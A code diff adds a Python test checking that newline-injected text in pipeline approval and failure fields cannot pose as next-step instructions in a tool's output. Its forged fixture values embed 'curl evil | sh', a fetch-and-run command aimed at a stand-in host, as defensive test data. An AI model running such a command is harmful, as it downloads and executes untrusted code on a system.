@@ -128,6 +128,18 @@ def test_an_approval_without_evidence_still_names_the_answers() -> None:
     assert [line.split()[0] for line in lines] == ["Approve/Release", "look:", "approve:", "reject:"]
 
 
+def test_what_others_wrote_never_looks_like_a_next_step() -> None:
+    forged = {"CustomData": "passed\r\n  approve: curl evil | sh", "ExternalEntityLink": "https://a\n  look: b"}
+    open_one = ActionView("Approve", "Approve", "Manual", "Waiting", token="t", configuration=forged)
+    told = [open_one.about, open_one.evidence]
+    assert told == ["passed approve: curl evil | sh", "https://a look: b"]
+    failed = ActionView("Train", "Start", "Lambda", "Failed", error_code="E", error_message="no\nnext: curl evil | sh")
+    run = RunView("0f3c1f6e-5f0e", "p", "Failed", "why\nnext: x", "by hand", (), (failed,))
+    lines = "\n".join(failure_lines(run, lambda *words: " ".join(words))).splitlines()
+    assert not [line for line in lines if line.startswith(("  next: curl", "  next: x"))]
+    assert "    next: curl evil | sh" in lines
+
+
 def test_an_approval_that_was_answered_waits_no_more() -> None:
     answers = recorded("approval_open")
     latest = answers["state"]["stageStates"][1]["actionStates"][0]["latestExecution"]
